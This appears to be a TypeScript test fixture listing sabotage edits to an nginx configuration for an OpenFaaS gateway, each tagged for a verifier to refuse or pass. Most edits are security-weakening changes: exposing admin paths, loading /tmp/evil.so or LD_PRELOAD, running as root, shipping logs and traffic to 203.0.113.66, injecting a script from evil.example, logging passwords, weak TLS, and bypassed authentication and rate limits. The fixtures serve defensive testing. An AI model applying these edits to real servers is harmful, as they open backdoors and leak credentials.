import { mayPass, refused } from './brief.ts';
import type { Edit, SabotagesOfKind } from './sabotage.ts';

const file = 'nginx/openfaas.conf';
const main = 'nginx/nginx.conf';
/** Before the last location of the server that answers. */
const location = (put: string): Edit => ({
  file,
  find: '    location = /healthz {\n',
  put: `${put}    location = /healthz {\n`,
});
/** In the server that answers. */
const inServer = (put: string): Edit => ({
  file,
  find: '    client_body_timeout 30s;\n',
  put: `    client_body_timeout 30s;\n${put}`,
});
const inHttp = (put: string): Edit => ({
  file,
  find: '# Unknown names get nothing.\n',
  put: `${put}# Unknown names get nothing.\n`,
});
const full = 'gateway-full';

/** What nginx does with whoever comes. */
export const gateway: SabotagesOfKind = [
  refused('everything that is no function goes to the gateway', 'verify/leads-elsewhere', {
    file,
    find: '    location / {\n        try_files "" =404;\n',
    put: '    location / {\n        proxy_pass http://openfaas_gateway;\n',
  }),
  refused(
    'all functions by one location',
    'verify/leads-elsewhere',
    location('    location ^~ /function/ {\n        proxy_pass http://openfaas_gateway;\n    }\n'),
  ),
  refused(
    "the gateway's own administration",
    'verify/not-as-meant',
    location('    location ^~ /system/ {\n        proxy_pass http://openfaas_gateway;\n    }\n'),
  ),
  refused(
    "the gateway's pages",
    'verify/leads-elsewhere',
    location('    location = /ui {\n        proxy_pass http://openfaas_gateway/ui/;\n    }\n'),
  ),
  refused(
    'a path that leads to the administration',
    'verify/leads-elsewhere',
    location('    location = /status {\n        proxy_pass http://openfaas_gateway/system/info;\n    }\n'),
  ),
  refused("a function's path leads to the administration", 'verify/leads-elsewhere', {
    file,
    find: '    location ^~ /function/export-ledger/ {\n        proxy_pass http://openfaas_gateway;\n',
    put: '    location ^~ /function/export-ledger/ {\n        proxy_pass http://openfaas_gateway/system/;\n',
  }),
  refused("a function's path leads to another function", 'verify/leads-elsewhere', {
    file,
    find: '    location ^~ /function/export-ledger/ {\n        proxy_pass http://openfaas_gateway;\n',
    put: '    location ^~ /function/export-ledger/ {\n        proxy_pass http://openfaas_gateway/function/verify-payment/;\n',
  }),
  refused(
    'a path of its own leads to all functions',
    'verify/leads-elsewhere',
    location('    location ^~ /all/ {\n        proxy_pass http://openfaas_gateway/function/;\n    }\n'),
  ),
  refused(
    'the address behind is made of what the client says',
    'verify/leads-elsewhere',
    location('    location ^~ /to/ {\n        proxy_pass http://$arg_host;\n    }\n'),
  ),
  refused(
    'the path behind is made of what the client says',
    'verify/leads-elsewhere',
    location('    location ^~ /to/ {\n        proxy_pass http://openfaas_gateway$arg_path;\n    }\n'),
  ),
  refused(
    'async calls of a function that has no queue',
    'verify/queue-missing',
    location(
      '    location ^~ /async-function/export-ledger/ {\n        limit_except POST {\n            deny all;\n        }\n        proxy_pass http://openfaas_gateway;\n    }\n',
    ),
  ),
  refused("Prometheus' pages", 'verify/upstream-is-no-service', {
    file,
    find: '    server 10.43.0.80:8080 max_fails=0;',
    put: '    server 10.43.0.80:8082 max_fails=0;',
  }),
  refused('some calls go to a machine of somebody', 'verify/directive-not-ours', {
    file,
    find: '    server 10.43.0.80:8080 max_fails=0;\n',
    put: '    server 10.43.0.80:8080 max_fails=0;\n    server 203.0.113.66:8080 backup;\n',
  }),
  refused('a copy of each call to somebody', 'verify/schema', inServer('    mirror /copy;\n')),
  refused('a module is loaded', 'verify/directive-not-ours', {
    file: main,
    find: 'events {',
    put: 'load_module /tmp/evil.so;\nevents {',
  }),
  refused('more of nginx from another file', 'verify/directive-not-ours', {
    file: main,
    find: '    include /etc/nginx/conf.d/*.conf;',
    put: '    include /tmp/*.conf;\n    include /etc/nginx/conf.d/*.conf;',
  }),
  refused(
    'more of nginx from a file in a server',
    'verify/directive-not-ours',
    inServer('    include /tmp/*.conf;\n'),
  ),
  refused('nginx runs as root', 'verify/directive-not-ours', {
    file: main,
    find: 'user www-data;',
    put: 'user root;',
  }),
  refused('nginx works in another directory', 'verify/directive-not-ours', {
    file: main,
    find: 'pid /run',
    put: 'working_directory /tmp;\npid /run',
  }),
  refused('variables of the environment for the workers', 'verify/directive-not-ours', {
    file: main,
    find: 'pid /run',
    put: 'env LD_PRELOAD=/tmp/evil.so;\npid /run',
  }),
  refused(
    'files of the disk',
    'verify/files-served',
    location('    location ^~ /files/ {\n        root /;\n    }\n'),
  ),
  refused('a list of what is in a directory', 'verify/schema', {
    file,
    find: '        root /var/www/letsencrypt;\n',
    put: '        root /var/www/letsencrypt;\n        autoindex on;\n',
  }),
  refused('challenges are read from the root', 'verify/directive-not-ours', {
    file,
    find: '        root /var/www/letsencrypt;\n',
    put: '        root /;\n',
  }),
  refused('uploads to the disk', 'verify/schema', {
    file,
    find: '        root /var/www/letsencrypt;\n',
    put: '        root /var/www/letsencrypt;\n        dav_methods PUT;\n',
  }),
  refused(
    "nginx's counters for all",
    'verify/status-page-open',
    location('    location = /status {\n        stub_status;\n    }\n'),
  ),
  refused('a log of passwords', 'verify/log-holds-secret', {
    file,
    find: '"agent":"$openfaas_log_agent"',
    put: '"agent":"$openfaas_log_agent","auth":"$http_authorization"',
  }),
  refused('a log to somebody', 'verify/directive-not-ours', {
    file,
    find: '    error_log syslog:server=unix:/run/systemd/journal/dev-log,tag=nginx,nohostname warn;\n',
    put: '    error_log syslog:server=203.0.113.66 warn;\n',
  }),
  refused('a log where all may read', 'verify/directive-not-ours', {
    file,
    find: '    access_log /var/log/nginx/openfaas.access.log openfaas_json',
    put: '    access_log /var/www/letsencrypt/log openfaas_json',
  }),
  refused('a log of everything', 'verify/directive-not-ours', {
    file,
    find: 'tag=nginx,nohostname warn;',
    put: 'tag=nginx,nohostname debug;',
  }),
  refused('no limit of rate', 'verify/not-counted', {
    file,
    every: '    limit_req zone=openfaas_req burst=20 nodelay;\n',
    put: '',
  }),
  refused('no limit of connections', 'verify/not-counted', {
    file,
    every: '    limit_conn openfaas_conn 100;\n',
    put: '',
  }),
  refused('limits are only tried', 'verify/directive-not-ours', inServer('    limit_req_dry_run on;\n')),
  refused(
    'OPTIONS of functions that answer it have a rate of their own',
    'verify/rate-doubled',
    {
      file,
      find: '        set $openfaas_asks "";\n',
      put: '',
    },
    full,
  ),
  refused('one key of limits for none', 'verify/map-spares-clients', {
    file,
    find: '    default $binary_remote_addr;\n',
    put: '    default "";\n',
  }),
  refused('whoever has a header is not limited', 'verify/map-spares-clients', {
    file,
    find: 'map $binary_remote_addr $openfaas_client {\n    default $binary_remote_addr;\n',
    put: 'map $http_x_free $openfaas_client {\n    default $binary_remote_addr;\n    yes "";\n',
  }),
  refused(
    'anybody names their address',
    'verify/not-as-meant',
    inHttp('set_real_ip_from 0.0.0.0/1;\nset_real_ip_from 128.0.0.0/1;\nreal_ip_header X-Forwarded-For;\n'),
  ),
  refused('a header of the client goes on as nginx vouches', 'verify/header-not-vouched', {
    file,
    find: '    proxy_set_header X-Real-IP $remote_addr;',
    put: '    proxy_set_header X-Real-IP $http_x_real_ip;',
  }),
  refused('old TLS', 'verify/schema', {
    file,
    find: 'tag=nginx,nohostname warn;',
    put: 'tag=nginx,nohostname warn;\n    ssl_protocols TLSv1 TLSv1.1 TLSv1.2;',
  }),
  refused('old TLS for all', 'verify/tls-weak', {
    file,
    find: '    ssl_protocols TLSv1.2 TLSv1.3;\n    ssl_ciphers',
    put: '    ssl_protocols TLSv1 TLSv1.2 TLSv1.3;\n    ssl_ciphers',
  }),
  refused('ciphers without keys', 'verify/tls-weak', {
    file,
    find: 'ssl_ciphers ECDHE-ECDSA-AES128-GCM-SHA256:',
    put: 'ssl_ciphers NULL:ECDHE-ECDSA-AES128-GCM-SHA256:',
  }),
  refused(
    'keys of sessions from a file',
    'verify/directive-not-ours',
    inServer('    ssl_session_ticket_key /var/www/letsencrypt/key;\n'),
  ),
  refused('port 80 answers calls', 'verify/unencrypted-answer', {
    file,
    find: '        return 308 https://functions.your-domain.no$request_uri;\n',
    put: '        proxy_pass http://openfaas_gateway;\n',
  }),
  refused('port 80 leads elsewhere', 'verify/unencrypted-answer', {
    file,
    find: 'return 308 https://functions.your-domain.no$request_uri;',
    put: 'return 308 https://evil.example$request_uri;',
  }),
  refused('unknown names are answered', 'verify/stranger-answered', {
    file,
    find: '        try_files "" =444;\n',
    put: '        proxy_pass http://openfaas_gateway;\n',
  }),
  refused('a port that no firewall knows', 'verify/directive-not-ours', {
    file,
    find: '    listen 443 ssl http2;\n    listen [::]:443 ssl http2;\n    server_name functions',
    put: '    listen 443 ssl http2;\n    listen [::]:443 ssl http2;\n    listen 8443 ssl;\n    listen [::]:8443 ssl;\n    server_name functions',
  }),
  refused(
    'answers are kept for others',
    'verify/directive-not-ours',
    inHttp('proxy_cache_path /tmp/cache keys_zone=c:1m;\n'),
  ),
  refused(
    'answers are changed',
    'verify/schema',
    inServer("    sub_filter '</body>' '<script src=//evil.example></script></body>';\n"),
  ),
  refused('answers say a header that opens them to all', 'verify/directive-not-ours', {
    file,
    find: '    add_header Strict-Transport-Security max-age=63072000 always;\n',
    put: '    add_header Strict-Transport-Security max-age=63072000 always;\n    add_header Access-Control-Allow-Origin * always;\n',
  }),
  refused('bodies of any size', 'verify/directive-not-ours', {
    file,
    find: 'client_max_body_size 50m;',
    put: 'client_max_body_size 0;',
  }),
  refused(
    'headers of the client with any character',
    'verify/directive-not-ours',
    inServer('    ignore_invalid_headers off;\n'),
  ),
  refused(
    'headers with underscores',
    'verify/directive-not-ours',
    inServer('    underscores_in_headers on;\n'),
  ),
  refused('slashes stay as they are', 'verify/directive-not-ours', inServer('    merge_slashes off;\n')),
  refused(
    "an answer's own redirect inside",
    'verify/error-as-success',
    inServer('    proxy_intercept_errors on;\n    error_page 404 =200 /function/export-ledger;\n'),
  ),
  refused(
    'whoever has no certificate is let in',
    'verify/map-spares-clients',
    { file, find: '    default certificate;\n', put: '    default off;\n' },
    full,
  ),
  refused(
    'a failed certificate is let in',
    'verify/map-spares-clients',
    { file, find: '    SUCCESS off;\n', put: '    SUCCESS off;\n    "~FAILED" off;\n' },
    full,
  ),
  refused(
    'certificates of clients are not asked for',
    'verify/directive-not-ours',
    { file, find: '    ssl_verify_client optional;\n', put: '    ssl_verify_client off;\n' },
    full,
  ),
  refused(
    'certificates of clients of any authority',
    'verify/directive-not-ours',
    { file, find: '    ssl_verify_client optional;\n', put: '    ssl_verify_client optional_no_ca;\n' },
    full,
  ),
  refused(
    'passwords are for those who say so',
    'verify/map-spares-clients',
    { file, find: '        auth_basic pay;\n', put: '        auth_basic $http_x_realm;\n' },
    full,
  ),
  refused(
    'one location of a function asks for no password',
    'verify/not-as-meant',
    {
      file,
      find: '        auth_basic pay;\n        auth_basic_user_file /etc/fjord/pay.htpasswd;\n',
      put: '',
    },
    full,
  ),
  refused(
    'either of network and password is enough',
    'verify/directive-not-ours',
    { file, find: '        auth_basic pay;\n', put: '        satisfy any;\n        auth_basic pay;\n' },
    full,
  ),
  refused(
    'passwords that everybody writes',
    'verify/not-as-meant',
    { file, find: '/etc/fjord/pay.htpasswd', put: '/tmp/pay.htpasswd' },
    full,
  ),
  refused(
    'the network of everybody',
    'verify/not-as-meant',
    { file, find: '        allow 192.0.2.0/24;\n', put: '        allow 0.0.0.0/0;\n' },
    full,
  ),
  refused(
    'who may call is asked of nobody',
    'verify/not-as-meant',
    { file, find: '        auth_request /_fjord/auth/orders;\n', put: '        auth_request off;\n' },
    full,
  ),
  refused(
    'who may call is asked of another function',
    'verify/not-as-meant',
    { file, find: 'auth_request /_fjord/auth/orders', put: 'auth_request /_fjord/auth/other' },
    full,
  ),
  refused(
    'any page may read answers',
    'verify/map-spares-clients',
    {
      file,
      find: 'map $http_origin $openfaas_origin_pay {\n    default "";\n',
      put: 'map $http_origin $openfaas_origin_pay {\n    default $http_origin;\n',
    },
    full,
  ),
  refused(
    'whoever says so is exempt from limits',
    'verify/map-spares-clients',
    {
      file,
      find: 'geo $openfaas_exempt {\n    default 0;\n',
      put: 'geo $openfaas_exempt {\n    default 1;\n',
    },
    full,
  ),
  mayPass('a slower rate of calls', 'gateway.rateLimit says any rate', {
    file,
    find: 'rate=10r/s',
    put: 'rate=5r/s',
  }),
  mayPass('larger bodies', 'gateway.maxBody says any size', {
    file,
    find: 'client_max_body_size 50m;',
    put: 'client_max_body_size 51m;',
  }),
  refused('a header of all answers with another value', 'verify/not-as-meant', {
    file,
    find: '"" nosniff;',
    put: '"" sniff;',
  }),
  refused('a header of all answers that no answer has', 'verify/not-as-meant', {
    file,
    find: 'map $upstream_http_x_content_type_options',
    put: 'map $http_x_content_type_options',
  }),
  {
    ...refused('sites that only begin like those below a domain', 'verify/map-spares-clients', {
      file,
      find: 'example[.]fi:8443$',
      put: 'example[.]fi:8443',
    }),
    of: 'every-option',
  },
  {
    ...refused('pages of every site read what a function answers', 'verify/not-as-meant', {
      file,
      every: 'add_header Access-Control-Allow-Origin $openfaas_origin_resize',
      put: 'add_header Access-Control-Allow-Origin *',
    }),
    of: 'every-option',
  },
  {
    ...refused('pages of a site more read what a function answers', 'verify/not-as-meant', {
      file,
      find: 'https://kauppa.example https://kauppa.example;',
      put: 'https://kauppa.example https://kauppa.example; https://b.example https://b.example;',
    }),
    of: 'every-option',
  },
  {
    ...refused('a redirect leads out of the platform', 'verify/not-as-meant', {
      file,
      every: 'return 308 https://functions.example.com$request_uri',
      put: 'return 308 https://functions.example.org$request_uri',
    }),
    of: 'every-option',
  },
  {
    ...refused('a server takes addresses from the proxy itself', 'verify/proxy-protocol-differs', {
      file,
      find: 'listen 80 proxy_protocol;',
      put: 'listen 80;',
    }),
    of: 'ubuntu',
  },
  refused('a server waits for the PROXY protocol that nobody speaks', 'verify/proxy-protocol-differs', {
    file,
    find: 'listen 80;',
    put: 'listen 80 proxy_protocol;',
  }),
  {
    ...refused('health checks are answered at every path', 'verify/stranger-answered', {
      file,
      every: 'location = /nginx-health {',
      put: 'location ^~ / {',
    }),
    of: 'every-option',
  },
  {
    ...refused('health checks are answered where functions are', 'verify/not-as-meant', {
      file,
      every: 'location = /nginx-health {',
      put: 'location = /function/pay {',
    }),
    of: 'every-option',
  },
];
